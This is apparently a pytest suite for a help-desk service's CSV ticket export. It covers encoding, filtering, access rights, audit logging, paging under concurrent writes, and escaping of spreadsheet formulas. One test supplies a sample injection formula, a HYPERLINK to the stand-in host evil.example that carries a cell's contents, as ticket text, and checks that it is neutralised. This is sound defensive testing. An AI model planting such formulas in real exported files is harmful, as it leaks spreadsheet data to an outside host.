"""All tickets in a file: each once, whatever is written meanwhile, and nothing in it that is not for the reader."""

import asyncio
import csv
import io
import random
from collections.abc import Sequence
from typing import Any
from uuid import UUID

import pytest

from common import clock
from common.principal import Principal
from tests.support.bulk_data import insert_tickets
from tests.support.desk import Desk, ok, problem
from tests.support.eventually import eventually
from tests.support.people import Person, another_organisation, make_agent, make_person
from tickets.export import queries
from tickets.search.schemas import TicketFilter

pytestmark = pytest.mark.asyncio(loop_scope="module")

Rows = list[dict[str, str]]


def read(pieces: Sequence[bytes]) -> Rows:
    """As another program reads it."""
    return list(csv.DictReader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline="")))


async def export(desk: Desk, by: Person, **query: Any) -> Rows:
    """What somebody finds in the file."""
    answer = await desk.ask(by, "GET", "/export.csv", params=query)
    assert answer.status_code == 200, answer.text
    return read([answer.content])


def staff(person: Person) -> Principal:
    """As the service knows them."""
    return Principal(person.id, person.organisation_id, person.role, person.id, person.name, clock.now())


async def test_the_file_begins_with_the_mark_by_which_excel_knows_utf_8(desk: Desk) -> None:
    await desk.ticket(title="Grüße; =1+1")

    exported = (await desk.ask(desk.agent, "GET", "/export.csv")).content
    report = (await desk.call(desk.agent, "GET", "/reports/summary", params={"format": "csv"})).content

    for content in (exported, report):
        assert content.startswith(b'\xef\xbb\xbf"')
        assert content.count(b"\xef\xbb\xbf") == 1
    assert "Grüße;' =1+1".encode() in exported


async def test_the_file_holds_each_ticket_of_the_organisation_newest_first(desk: Desk) -> None:
    first = await desk.ticket(title="Printer", category="hardware", tags=["fire", "paper"])
    second = await desk.change_status(desk.agent, await desk.ticket(priority="high"), "resolved")
    stranger = await make_agent(desk.auth, "Sam Stranger", await another_organisation())

    newest, oldest = await export(desk, desk.agent)

    assert [newest["id"], oldest["id"]] == [second["id"], first["id"]]
    assert (
        oldest
        | {
            "number": "1",
            "title": "Printer",
            "description": "It burns.",
            "status": "new",
            "category": "hardware",
            "tags": "fire, paper",
            "requester": desk.customer.name,
            "requester_id": str(desk.customer.id),
            "assignee": "",
            "assignee_id": "",
            "created_at": first["created_at"],
            "resolved_at": "",
        }
        == oldest
    )
    assert (newest["priority"], newest["resolved_at"]) == ("high", second["resolved_at"])
    assert await export(desk, stranger) == []


async def test_it_is_a_file_to_be_saved(desk: Desk) -> None:
    answer = await desk.ask(desk.agent, "GET", "/export.csv")

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="tickets-{clock.now().date()}.csv"'
    assert answer.text.startswith('\ufeff"number","id","title",')


async def test_what_a_customer_types_is_no_formula_for_whoever_opens_it(desk: Desk) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    await desk.ticket(title=formula, description="@SUM(1)", category="+1", tags=["-1"])

    (row,) = await export(desk, desk.agent)

    assert (row["title"], row["description"]) == (f"'{formula}", "'@SUM(1)")
    assert (row["category"], row["tags"]) == ("'+1", "'-1")


async def test_text_of_many_lines_and_signs_comes_out_as_it_was_typed(desk: Desk) -> None:
    typed = 'He said: "Öffnen, bitte!"\n\n; 中文 \N{PRINTER}'
    await desk.ticket(description=typed)

    (row,) = await export(desk, desk.agent)

    assert row["description"] == typed


async def test_nothing_of_an_internal_note_is_in_it(desk: Desk) -> None:
    ticket = await desk.ticket()
    before = await export(desk, desk.agent)

    await desk.wrote(desk.agent, ticket, "Unspeakable.", visibility="internal")

    answer = await desk.ask(desk.agent, "GET", "/export.csv")
    assert "nspeakable" not in answer.text
    assert read([answer.content]) == before


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"status": "closed"},
        {"status": "new,closed"},
        {"priority": "high", "category": "hardware"},
        {"tag": "fire"},
        {"assignee": "none"},
        {"assignee": "me"},
        {"q": "printer"},
        {"q": "nothing says this"},
        {"created_after": "2999-01-01T00:00:00Z"},
    ],
    ids=str,
)
async def test_it_holds_what_a_list_with_the_same_filter_shows(desk: Desk, query: dict[str, str]) -> None:
    await desk.ticket(title="Printer", priority="high", category="hardware", tags=["fire"])
    await desk.change_status(desk.agent, await desk.ticket(title="Door"), "closed")
    await desk.ask(desk.agent, "PUT", f"/{(await desk.ticket())['id']}/assignee", json={"user_id": str(desk.agent.id)})

    listed = (await desk.listed(desk.agent, limit=100, **query))["items"]

    assert [row["id"] for row in await export(desk, desk.agent, **query)] == [ticket["id"] for ticket in listed]


@pytest.mark.parametrize("wrong", [{"status": "lost"}, {"stauts": "new"}, {"limit": "3"}])
async def test_a_filter_that_makes_no_sense_is_refused(desk: Desk, wrong: dict[str, str]) -> None:
    problem(await desk.ask(desk.agent, "GET", "/export.csv", params=wrong), 422, "invalid")


async def test_deleted_tickets_are_in_it_for_an_admin_who_asks_for_them(desk: Desk) -> None:
    admin = await make_person(desk.auth, "admin", "Ada Admin", desk.organisation)
    ticket = await desk.ticket()
    assert (await desk.ask(admin, "DELETE", f"/{ticket['id']}")).status_code == 204

    assert await export(desk, admin) == []
    assert [row["id"] for row in await export(desk, admin, deleted="true")] == [ticket["id"]]
    problem(await desk.ask(desk.agent, "GET", "/export.csv", params={"deleted": "true"}), 403, "forbidden")


async def test_it_is_for_agents_and_admins(desk: Desk) -> None:
    admin = await make_person(desk.auth, "admin", "Ada Admin", desk.organisation)

    assert await export(desk, admin) == []
    problem(await desk.ask(desk.customer, "GET", "/export.csv"), 403, "forbidden")
    problem(await desk.tickets.http.get("/api/v1/tickets/export.csv"), 401, "unauthenticated")


async def test_the_audit_trail_says_who_exported_what_with_which_filter(desk: Desk) -> None:
    admin = await make_person(desk.auth, "admin", "Ada Admin", desk.organisation)
    await export(desk, desk.agent, status="new,open", q="printer")
    days = {"from": "2026-05-01", "to": "2026-05-31", "timezone": "Europe/Berlin"}
    await desk.call(desk.agent, "GET", "/reports/agents", params={**days, "format": "csv"})
    await desk.call(desk.agent, "GET", "/reports/agents", params=days)

    async def both() -> list[dict[str, Any]]:
        found = ok(await desk.call(admin, "GET", "/audit", params={"action": "export.started"}))["items"]
        assert len(found) == 2, found
        return [{**item["after"], "actor": item["actor"]["id"]} for item in found]

    by = {"actor": str(desk.agent.id)}
    assert await eventually(both) == [
        {"content": "agents", "criteria": days, **by},
        {"content": "tickets", "criteria": {"status": ["new", "open"], "q": "printer"}, **by},
    ]


async def test_tickets_that_are_written_meanwhile_are_neither_repeated_nor_left_out(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(queries, "PAGE_SIZE", 3)
    tickets = [await desk.ticket() for _ in range(10)]
    pieces: list[bytes] = []

    async for piece in queries.as_csv(desk.tickets.db, staff(desk.agent), TicketFilter()):
        pieces.append(piece)
        await desk.ticket()
        moved = tickets[len(pieces) % len(tickets)]
        await desk.change_status(desk.agent, moved, "open" if len(pieces) % 2 else "pending")

    found = [row["id"] for row in read(pieces)]
    assert found == [ticket["id"] for ticket in reversed(tickets)]
    assert len(pieces) == 4


async def test_tickets_that_never_rest_are_each_in_the_file_once(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(queries, "PAGE_SIZE", 4)
    tickets = [await desk.ticket() for _ in range(14)]
    done = asyncio.Event()

    async def keep_moving() -> None:
        while not done.is_set():
            for status in ("open", "pending"):
                await asyncio.gather(*(desk.move(desk.agent, each, status) for each in tickets))

    mover = asyncio.create_task(keep_moving())
    try:
        for _ in range(10):
            pieces = [piece async for piece in queries.as_csv(desk.tickets.db, staff(desk.agent), TicketFilter())]
            assert [row["id"] for row in read(pieces)] == [ticket["id"] for ticket in reversed(tickets)]
    finally:
        done.set()
        await mover


@pytest.mark.parametrize(("count", "lines"), [(0, [1]), (3, [4]), (4, [5]), (5, [5, 1]), (8, [5, 4])])
async def test_no_more_than_a_page_is_in_memory(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, count: int, lines: list[int]
) -> None:
    monkeypatch.setattr(queries, "PAGE_SIZE", 4)
    for _ in range(count):
        await desk.ticket()

    pieces = [piece async for piece in queries.as_csv(desk.tickets.db, staff(desk.agent), TicketFilter())]

    assert [piece.count(b"\r\n") for piece in pieces] == lines
    assert len(read(pieces)) == count


async def test_a_ticket_that_moves_between_wanted_statuses_while_a_page_is_read_is_not_missed(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(queries, "PAGE_SIZE", 5_000)
    tickets = desk.tickets.db["tickets"]
    mine = {"organisation_id": desk.agent.organisation_id}
    await insert_tickets(desk.tickets.db, desk.agent.organisation_id, 20_000)
    ids = [found["_id"] async for found in tickets.find(mine, {"_id": 1})][::10]
    waiting = {**mine, "status": {"$in": ["open", "in_progress", "pending"]}}
    await tickets.update_many(waiting, {"$set": {"status": "closed"}})
    await tickets.update_many({"_id": {"$in": ids}}, {"$set": {"status": "open", "escalated_at": clock.now()}})
    done = asyncio.Event()

    async def keep_moving(some: Sequence[UUID]) -> None:
        while not done.is_set():
            for status in ("pending", "open"):
                await tickets.update_many({"_id": {"$in": some}}, {"$set": {"status": status}})

    movers = [asyncio.create_task(keep_moving(random.Random(n).sample(ids, 40))) for n in range(6)]
    wanted = {**mine, "status": {"$in": ["open", "pending"]}}
    try:
        for _ in range(20):
            found = [each["_id"] async for page in queries.pages(desk.tickets.db, wanted) for each in page]
            assert (len(found), len(set(found))) == (2_000, 2_000)
    finally:
        done.set()
        await asyncio.gather(*movers)
